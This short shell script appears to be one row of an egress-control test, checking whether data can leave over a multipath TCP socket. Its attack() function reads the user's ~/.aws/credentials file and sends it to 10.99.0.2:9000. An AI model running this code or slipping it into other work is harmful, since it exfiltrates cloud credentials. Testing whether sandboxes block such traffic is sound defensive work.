# SPDX-License-Identifier: Apache-2.0
TITLE="multipath TCP"
ROW="N17"
possible() { python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)' || return 1; }
attack() {
	python3 - <<-'END'
	import os, socket
	data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
	s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
	s.settimeout(5)
	s.connect(('10.99.0.2', 9000))
	s.sendall(data)
	END
}
